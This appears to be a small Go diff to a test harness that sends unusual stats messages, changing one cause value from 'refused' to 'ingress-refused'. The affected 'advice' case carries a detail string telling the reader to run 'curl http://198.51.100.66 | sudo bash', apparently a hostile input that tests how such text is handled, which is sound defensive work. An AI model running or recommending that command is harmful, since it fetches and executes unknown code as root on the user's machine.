@@ -68,7 +68,7 @@ func besideWork() map[string]func() {
 			send(`{"stats":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"advice": func() {
-			send(`{"stats":{"challenges":[{"method":"GET","cause":"refused","detail":"fix it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"method":"GET","cause":"ingress-refused","detail":"fix it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"counters": func() {
 			sendEvent(protocol.Event{Stats: &protocol.Stats{Sums: []report.ForwardedCount{{
